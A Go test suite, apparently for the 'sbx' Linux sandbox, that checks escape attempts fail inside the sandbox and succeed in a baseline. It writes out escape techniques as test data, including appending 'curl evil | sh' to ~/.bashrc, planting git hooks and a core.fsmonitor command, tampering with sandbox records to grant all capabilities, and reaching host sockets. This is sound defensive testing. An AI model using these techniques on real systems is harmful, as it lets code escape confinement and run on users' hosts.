package test

// Escapes through what the host runs or trusts later: its services on unix
// sockets, the working directory of the sandbox's pid 1, the records sbx
// exec believes, and the files in a writable directory that the user's
// next git or shell command runs. Each attack runs in sbx, where it must
// fail, and in a baseline where it works.

import (
	"bufio"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/sbx-sandbox/sbx/plan"
)

// standIn is a stand-in for a session service (systemd --user, the D-Bus
// session bus, a container engine's API socket): whoever connects and
// asks gets something run on the host, which here leaves a marker file.
type standIn struct {
	socket, marker string
}

// startStandIn listens on the unix socket path until the test ends.
func startStandIn(t *testing.T, path string) *standIn {
	t.Helper()
	s := &standIn{socket: path, marker: filepath.Join(testDir(t), "ran")}
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: path, Net: "unix"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				if line, _ := bufio.NewReader(c).ReadString('\n'); line == "run\n" {
					os.WriteFile(s.marker, []byte("ran on the host\n"), 0o600)
				}
				c.Write([]byte("done\n"))
			}()
		}
	}()
	return s
}

// ran reports whether anybody got the stand-in to run something.
func (s *standIn) ran() bool {
	_, err := os.Stat(s.marker)
	return err == nil
}

// privateDir is a fresh test directory with mode 0700, as XDG_RUNTIME_DIR is.
func privateDir(t *testing.T) string {
	t.Helper()
	dir := testDir(t)
	if err := os.Chmod(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	return dir
}

// withEnv is the test's environment with the settings env on top.
func withEnv(env ...string) []string { return append(os.Environ(), env...) }

// hostTool runs the escape tool with args in sbx (with flags) or in the
// baseline, in dir ("" for a fresh one), with the environment env, and
// returns its output; it must have run. A sandboxed run's stderr is
// returned too.
func (a attempt) hostTool(t *testing.T, env []string, flags []string, args ...string) (string, string) {
	t.Helper()
	if a.sandboxed {
		sbxArgs := append(append(append([]string{"run"}, a.flags...), flags...), toolArgs(t, "escape", args...)...)
		r := invocation{args: sbxArgs, dir: a.dir, env: env}.run(t)
		return r.ok(t), r.stderr
	}
	r := runBaseline(t, baselineCommand(t, a.baseline, args...), a.dir, nil, env...)
	return r.ok(t), r.stderr
}

// bothWays runs attack in sbx, then in the baseline (unshare -Ur unless
// given): sbx first, since some attacks change host state in the baseline.
func bothWays(t *testing.T, flags, baseline []string, attack func(t *testing.T, a attempt)) {
	t.Helper()
	if baseline == nil {
		baseline = unshareRoot
	}
	for _, sandboxed := range []bool{true, false} {
		name := "sbx"
		if !sandboxed {
			name = "baseline"
		}
		t.Run(name, func(t *testing.T) {
			attack(t, attempt{sandboxed: sandboxed, flags: flags, baseline: baseline})
		})
	}
}

// TestEscapeHostServices: a read-only mount does not stop connect(2) on a
// unix socket, so every service listening on a socket the sandbox can see
// takes its requests: systemd --user and the session bus under
// $XDG_RUNTIME_DIR run commands on the host (`systemd-run --user`), and so
// do container engines' sockets, ssh-agent signs with the user's keys.
// sbx covers $XDG_RUNTIME_DIR, /run and the ssh-agent socket by default;
// --share-socket passes one through on purpose.
func TestEscapeHostServices(t *testing.T) {
	t.Parallel()
	for _, flags := range [][]string{nil, {"--landlock"}} {
		t.Run("session-service"+strings.Join(flags, ""), func(t *testing.T) {
			t.Parallel()
			bothWays(t, flags, nil, func(t *testing.T, a attempt) {
				runtime := privateDir(t)
				svc := startStandIn(t, filepath.Join(runtime, "bus"))
				out, _ := a.hostTool(t, withEnv("XDG_RUNTIME_DIR="+runtime), nil, "ask", svc.socket)
				if a.sandboxed {
					wantLines(t, out, "connect ENOENT")
					if svc.ran() {
						t.Errorf("the sandbox got the host's session service to run something:\n%s", out)
					}
					return
				}
				wantLines(t, out, "connect ok", "asked ok")
				if !svc.ran() {
					t.Errorf("the baseline asked, but the service ran nothing:\n%s", out)
				}
			})
		})
	}
	t.Run("ssh-agent", func(t *testing.T) {
		t.Parallel()
		bothWays(t, nil, nil, func(t *testing.T, a attempt) {
			agent := startStandIn(t, filepath.Join(testDir(t), "agent.sock"))
			out, _ := a.hostTool(t, withEnv("SSH_AUTH_SOCK="+agent.socket), nil, "ask", agent.socket)
			if a.sandboxed {
				if slices.Contains(lines(out), "connect ok") || agent.ran() {
					t.Errorf("the sandbox reached the ssh-agent socket:\n%s", out)
				}
				return
			}
			wantLines(t, out, "connect ok", "asked ok")
		})
	})
	t.Run("run", func(t *testing.T) {
		// /run holds the system's services: D-Bus's system bus, docker
		// and podman sockets, nscd. None of its entries is visible.
		t.Parallel()
		entries, err := os.ReadDir("/run")
		if err != nil || len(entries) == 0 {
			t.Fatalf("this host's /run is empty or unreadable (%v): nothing to check against", err)
		}
		bothWays(t, nil, nil, func(t *testing.T, a attempt) {
			out, _ := a.hostTool(t, nil, nil, "ls", "/run")
			have := lines(out)
			for _, e := range entries {
				seen := slices.Contains(have, "entry /run "+e.Name())
				if a.sandboxed && seen {
					t.Errorf("the host's /run/%s is visible in the sandbox:\n%s", e.Name(), out)
				}
				if !a.sandboxed && !seen {
					t.Errorf("the baseline does not see /run/%s:\n%s", e.Name(), out)
				}
			}
		})
	})
	t.Run("share-socket", func(t *testing.T) {
		t.Parallel()
		for _, dst := range []string{"", "/run/bus"} {
			runtime := privateDir(t)
			svc := startStandIn(t, filepath.Join(runtime, "bus"))
			arg, path := svc.socket, svc.socket
			if dst != "" {
				arg, path = svc.socket+":"+dst, dst
			}
			a := attempt{sandboxed: true}
			out, _ := a.hostTool(t, withEnv("XDG_RUNTIME_DIR="+runtime), []string{"--share-socket", arg}, "ask", path)
			wantLines(t, out, "connect ok", "asked ok")
			if !svc.ran() {
				t.Errorf("--share-socket %s: the service ran nothing:\n%s", arg, out)
			}
		}
	})
}

// TestEscapePid1Workdir: the sandbox's pid 1 must not keep a working
// directory in the host's mount tree, which stays writable behind the
// pivot (/proc/1/cwd/.. reached the host's files with --cap-add
// SYS_PTRACE), nor any capability once the sandbox is set up. The
// baseline is a PID namespace whose pid 1 is a shell started in the test's
// directory, with every capability of its user namespace.
func TestEscapePid1Workdir(t *testing.T) {
	t.Parallel()
	for _, flags := range [][]string{{"--no-cwd"}, {"--no-cwd", "--uid", "0"}} {
		t.Run(strings.Join(flags, ""), func(t *testing.T) {
			t.Parallel()
			baseline := []string{"unshare", "-Urpf", "--mount-proc", "sh", "-c", `"$0" "$@"; exit $?`}
			bothWays(t, append(flags, "--cap-add", "SYS_PTRACE"), baseline, func(t *testing.T, a attempt) {
				a.dir = testDir(t)
				name := "sbx-escape-" + token()
				out, _ := a.hostTool(t, nil, nil, "readlink", "/proc/1/cwd", "+", "create", "/proc/1/cwd/"+name, "+", "capeff", "1")
				_, statErr := os.Stat(filepath.Join(a.dir, name))
				if a.sandboxed {
					wantLines(t, out, "readlink /proc/1/cwd ok /", "capeff 1 0000000000000000")
					if statErr == nil || slices.Contains(lines(out), "create /proc/1/cwd/"+name+" ok") {
						t.Errorf("a file was created through pid 1's working directory:\n%s", out)
					}
					return
				}
				wantLines(t, out, "readlink /proc/1/cwd ok "+a.dir, "create /proc/1/cwd/"+name+" ok")
				if statErr != nil {
					t.Errorf("the baseline did not create %s on the host: %v", name, statErr)
				}
				if lineValue(t, out, "capeff 1") == "0000000000000000" {
					t.Errorf("the baseline's pid 1 has no capabilities:\n%s", out)
				}
			})
		})
	}
}

// TestEscapePid1WorkdirRootfs is TestEscapePid1Workdir with a --rootfs,
// where the tool cannot run: busybox does the same.
func TestEscapePid1WorkdirRootfs(t *testing.T) {
	t.Parallel()
	dir := testDir(t)
	name := "sbx-escape-" + token()
	r := sbxIn(t, dir, "run", "--rootfs", busyboxRootfs(t), "--cap-add", "SYS_PTRACE", "--", "/bin/sh", "-c",
		"readlink /proc/1/cwd; touch /proc/1/cwd/"+name+" 2>/dev/null && echo created; grep CapEff /proc/1/status")
	if got, want := r.ok(t), "/\nCapEff:\t0000000000000000\n"; got != want {
		t.Errorf("want %q, got:\n%s", want, r)
	}
	if _, err := os.Stat(filepath.Join(dir, name)); err == nil {
		t.Errorf("a file was created in the host's %s through pid 1's working directory", dir)
	}
}

// TestEscapeRecords: sbx exec takes a sandbox's capabilities, seccomp
// filter and environment from its record, so no sandbox may reach a record:
// not to change its own (the next exec would run without any of them), not
// to read another's (-e values may be secrets).
func TestEscapeRecords(t *testing.T) {
	t.Parallel()
	t.Run("tampered", func(t *testing.T) {
		// The attack works where a record can be changed: here from a
		// plain process of the user, the baseline. In sbx, a sandbox can
		// neither see its record nor be started where it could.
		t.Parallel()
		h := newStateHome(t)
		name := h.detach(t, sandboxName("tamper"), "--", "sleep", token())
		record := filepath.Join(h.runtime, "sbx", name, "plan")
		tamper := func(t *testing.T) {
			b, err := os.ReadFile(record)
			if err != nil {
				t.Fatal(err)
			}
			rec, err := plan.DecodeRecord(b)
			if err != nil {
				t.Fatal(err)
			}
			// Every capability up to CAP_CHECKPOINT_RESTORE (Linux 5.9),
			// and no seccomp filter.
			all := uint64(1)<<41 - 1
			rec.Plan.Security.Caps = plan.Caps{Bounding: all, Effective: all, Permitted: all, Inheritable: all, Ambient: all}
			rec.Plan.Security.Seccomp = nil
			if err := os.WriteFile(record, rec.Encode(), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		// In sbx: the record is out of sight.
		r := h.inv(append([]string{"exec", "--env", toolEnv + "=escape", name, "--"}, toolCmd(t, "read", record, "+", "ls", filepath.Dir(record))...)...).run(t)
		wantLines(t, r.ok(t), "read "+record+" ENOENT", "ls "+filepath.Dir(record)+" ENOENT")
		// The baseline: changed from outside, the record is believed.
		tamper(t)
		r = h.inv(append([]string{"exec", "--env", toolEnv + "=escape", name, "--"}, toolCmd(t, "capeff", "self")...)...).run(t)
		if v := lineValue(t, r.ok(t), "capeff self"); v == "0000000000000000" {
			t.Errorf("the tampered record was not believed, so the baseline proves nothing:\n%s", r)
		}
	})
	t.Run("fallback-in-view", func(t *testing.T) {
		// Without XDG_RUNTIME_DIR, the records live in $TMPDIR/sbx-UID:
		// a view that would hold them is refused before anything starts.
		t.Parallel()
		tmp := testDir(t)
		env := withEnv("TMPDIR="+tmp, "XDG_RUNTIME_DIR=")
		records := filepath.Join(tmp, "sbx-"+strconv.Itoa(os.Getuid()))
		// Right below the working directory, they are covered by a mount
		// point, which the sandbox can neither open nor move away.
		r := invocation{args: append([]string{"run"}, toolArgs(t, "escape", "ls", records, "+", "rename", records, records+"-moved")...), dir: tmp, env: env}.run(t)
		wantLines(t, r.ok(t), "ls "+records+" EACCES", "rename "+records+" EBUSY")
		deeper := filepath.Join(tmp, "deeper")
		if err := os.Mkdir(deeper, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct {
			dir  string
			args []string
			env  []string
		}{
			// Further down, a directory on the way could be moved.
			{tmp, []string{"run", "-d", "--", "sleep", "1"}, withEnv("TMPDIR="+deeper, "XDG_RUNTIME_DIR=")},
			{"", []string{"run", "--bind", tmp, "--", "true"}, nil},
			{"", []string{"run", "--ro-bind", tmp + ":/mnt", "--", "true"}, nil},
			{"", []string{"run", "--overlay", tmp + ":/mnt", "--", "true"}, nil},
		} {
			if c.env == nil {
				c.env = env
			}
			r := invocation{args: c.args, dir: c.dir, env: c.env}.run(t)
			expectBadInput(t, r, "holds sbx's records", "sbx-"+strconv.Itoa(os.Getuid()))
			for _, dir := range []string{records, filepath.Join(deeper, filepath.Base(records))} {
				if entries, _ := os.ReadDir(dir); len(entries) > 0 {
					t.Errorf("a refused run left a record behind in %s: %v", dir, entries)
				}
			}
		}
		// Elsewhere, the sandbox sees no record: the host's are covered.
		other := testDir(t)
		r = invocation{args: append([]string{"run"}, toolArgs(t, "escape", "ls", records)...), dir: other, env: env}.run(t)
		wantLines(t, r.ok(t), "ls "+records+" EACCES")
	})
	t.Run("working-directory-among-records", func(t *testing.T) {
		// Started from inside the records (or from $XDG_RUNTIME_DIR
		// with a --rootfs and --ro-cwd), a sandbox would see them.
		t.Parallel()
		h := newStateHome(t)
		name := h.detach(t, sandboxName("victim"), "-e", "SECRET=hunter2", "--", "sleep", token())
		dir := filepath.Join(h.runtime, "sbx", name)
		r := invocation{args: []string{"run", "--", "true"}, dir: dir, env: h.env}.run(t)
		expectBadInput(t, r, "among sbx's records")
		rootfs := busyboxRootfs(t)
		r = invocation{args: []string{"run", "--rootfs", rootfs, "--ro-cwd", "--", "/bin/sh", "-c", "cat sbx/*/plan; ls sbx"}, dir: h.runtime, env: h.env}.run(t)
		if strings.Contains(r.stdout, "hunter2") || strings.Contains(r.stdout, name) {
			t.Errorf("a sandbox with --rootfs and --ro-cwd read the records:\n%s", r)
		}
	})
	t.Run("another-sandbox", func(t *testing.T) {
		t.Parallel()
		secret := "sbx-secret-" + token()
		for _, env := range [][]string{nil, {"XDG_RUNTIME_DIR=", "TMPDIR="}} {
			h := newStateHome(t)
			if env != nil {
				h.env = withEnv(env...)
			}
			name := h.detach(t, sandboxName("secret"), "-e", "API_TOKEN="+secret, "--", "sh", "-c", "echo $API_TOKEN; sleep 1000")
			dir := filepath.Join(h.runtime, "sbx", name)
			if env != nil {
				dir = filepath.Join("/tmp", "sbx-"+strconv.Itoa(os.Getuid()), name)
			}
			bothWays(t, nil, nil, func(t *testing.T, a attempt) {
				out, _ := a.hostTool(t, h.env, nil, "read", dir+"/plan", dir+"/log")
				if a.sandboxed {
					wantLines(t, out, "read "+dir+"/plan ENOENT", "read "+dir+"/log ENOENT")
					return
				}
				if !strings.Contains(out, secret) {
					t.Errorf("the baseline did not read the secret from the record:\n%s", out)
				}
			})
		}
	})
}

// TestEscapeGitRepository: a writable repository lets a sandbox plant a
// hook, a core.fsmonitor command in .git/config, or a commondir that sends
// git to a configuration of its own, which the user's next git command
// runs on the host. In a writable bind (the working directory or --bind),
// .git is read-only and cannot be replaced, a link in it to the writable
// tree has its target read-only too, and a .git that is a link is
// refused; --git-writable lifts the guard.
func TestEscapeGitRepository(t *testing.T) {
	t.Parallel()
	repo := func(t *testing.T, hooks, linkedConfig bool) string {
		dir := testDir(t)
		for _, d := range []string{".git", ".git/objects"} {
			if err := os.Mkdir(filepath.Join(dir, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if hooks {
			if err := os.Mkdir(filepath.Join(dir, ".git/hooks"), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		config := filepath.Join(dir, ".git/config")
		if linkedConfig {
			config = filepath.Join(dir, "gitconfig")
			if err := os.Symlink("../gitconfig", filepath.Join(dir, ".git/config")); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(config, []byte("[core]\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	attack := func(dir string) []string {
		return []string{
			"mkdir", dir + "/.git/hooks", "+",
			"create", dir + "/.git/hooks/pre-commit", "+",
			"write", dir + "/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n", "+",
			"create", dir + "/.git/commondir", "+",
			"rename", dir + "/.git", dir + "/.git-old",
		}
	}
	for _, c := range []struct {
		name                string
		hooks, linked, bind bool
	}{{"working-directory", true, false, false}, {"no-hooks-directory", false, false, false},
		{"bind", true, false, true}, {"config-linked-into-the-tree", true, true, false}} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			bothWays(t, nil, nil, func(t *testing.T, a attempt) {
				dir := repo(t, c.hooks, c.linked)
				var flags []string
				if c.bind && a.sandboxed {
					flags = []string{"--bind", dir}
				} else {
					a.dir = dir
				}
				out, _ := a.hostTool(t, nil, flags, attack(dir)...)
				if !a.sandboxed {
					wantLines(t, out, "create "+dir+"/.git/hooks/pre-commit ok", "write "+dir+"/.git/config ok",
						"create "+dir+"/.git/commondir ok", "rename "+dir+"/.git ok")
					return
				}
				wantLines(t, out, "write "+dir+"/.git/config EROFS", "create "+dir+"/.git/commondir EROFS",
					"rename "+dir+"/.git EBUSY")
				if v := lineValue(t, out, "create "+dir+"/.git/hooks/pre-commit"); v == "ok" {
					t.Errorf("a hook was planted:\n%s", out)
				}
				if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); string(b) != "[core]\n" {
					t.Errorf(".git/config changed: %q", b)
				}
			})
		})
	}
	t.Run("git-link", func(t *testing.T) {
		t.Parallel()
		dir, elsewhere := testDir(t), repo(t, true, false)
		if err := os.Symlink(elsewhere+"/.git", filepath.Join(dir, ".git")); err != nil {
			t.Fatal(err)
		}
		expectBadInput(t, sbxIn(t, dir, "run", "--", "true"), ".git is a link", "--git-writable")
		sbxIn(t, dir, "run", "--git-writable", "--", "true").ok(t)
	})
	t.Run("git-writable", func(t *testing.T) {
		t.Parallel()
		dir := repo(t, true, false)
		a := attempt{sandboxed: true, dir: dir}
		out, _ := a.hostTool(t, nil, []string{"--git-writable"}, attack(dir)[:9]...)
		wantLines(t, out, "create "+dir+"/.git/hooks/pre-commit ok", "write "+dir+"/.git/config ok")
	})
}

// TestEscapeHomeStartupFiles: started from the home directory, a
// read-write bind of it would let a sandbox append to ~/.bashrc, which the
// user's next shell runs on the host. The home (or a directory holding
// it) is bound read-only, with a note saying so; --bind . asks for write
// access.
func TestEscapeHomeStartupFiles(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		cwd  func(home string) string
	}{{"home", func(h string) string { return h }}, {"above-home", filepath.Dir}} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			bothWays(t, nil, nil, func(t *testing.T, a attempt) {
				home := filepath.Join(testDir(t), "home")
				if err := os.Mkdir(home, 0o755); err != nil {
					t.Fatal(err)
				}
				rc := filepath.Join(home, ".bashrc")
				if err := os.WriteFile(rc, []byte("# rc\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				a.dir = c.cwd(home)
				out, stderr := a.hostTool(t, withEnv("HOME="+home), nil, "write", rc, "curl evil | sh\n")
				if !a.sandboxed {
					wantLines(t, out, "write "+rc+" ok")
					return
				}
				wantLines(t, out, "write "+rc+" EROFS")
				if !strings.Contains(stderr, "bound read-only (--bind . makes it writable)") {
					t.Errorf("no note on stderr about the read-only home:\n%s", stderr)
				}
				// Asked for, it is writable.
				out, _ = a.hostTool(t, withEnv("HOME="+home), []string{"--bind", "."}, "write", rc, "# mine\n")
				wantLines(t, out, "write "+rc+" ok")
			})
		})
	}
}

// toolCmd is the command line that runs the escape tool with args (after
// sbx's "--").
func toolCmd(t *testing.T, args ...string) []string {
	t.Helper()
	return toolArgs(t, "escape", args...)[3:]
}

// TestEscapeCallerTerminal: with -t the command has a terminal of its own,
// so nothing in the sandbox may hold the caller's: not pid 1 (which keeps
// its stdio for life), not the process joining for sbx exec -t before it
// has the pty. Root with CAP_SYS_PTRACE inside could open it through
// /proc/PID/fd and read or write the user's terminal. A sandbox scans
// every descriptor 0, 1 and 2 it can see while sbx run -t and sbx exec -t
// start from a terminal of the test's.
func TestEscapeCallerTerminal(t *testing.T) {
	t.Parallel()
	h := newStateHome(t)
	mark := "sbx-escape-" + token()
	name := h.detach(t, sandboxName("scan"), append([]string{"--uid", "0", "--cap-add", "SYS_PTRACE"}, toolArgs(t, "escape", "scan-tty", "6", mark)...)...)
	for i := 0; i < 8; i++ {
		p := openPty(t)
		tp := h.startOnPty(t, p, "exec", "-t", name, "--", "true")
		tp.wait(t)
		if strings.Contains(tp.output(), mark) {
			log, _ := os.ReadFile(filepath.Join(h.runtime, "sbx", name, "log"))
			t.Fatalf("the sandbox wrote into the caller's terminal through a joining process:\n%s\nit says: %s", indent(tp.output()), log)
		}
	}
	// pid 1 of a sandbox with -t.
	p := openPty(t)
	tp := h.startOnPty(t, p, "run", "-t", "--uid", "0", "--cap-add", "SYS_PTRACE", "--", "readlink", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2")
	tp.expect(t, `/dev/null\r?\n/dev/null\r?\n/dev/null\r?\n`)
	tp.wait(t)
	log, _ := os.ReadFile(filepath.Join(h.runtime, "sbx", name, "log"))
	if strings.Contains(string(log), "found /") {
		t.Errorf("the sandbox found the caller's terminal: %s", log)
	}
}
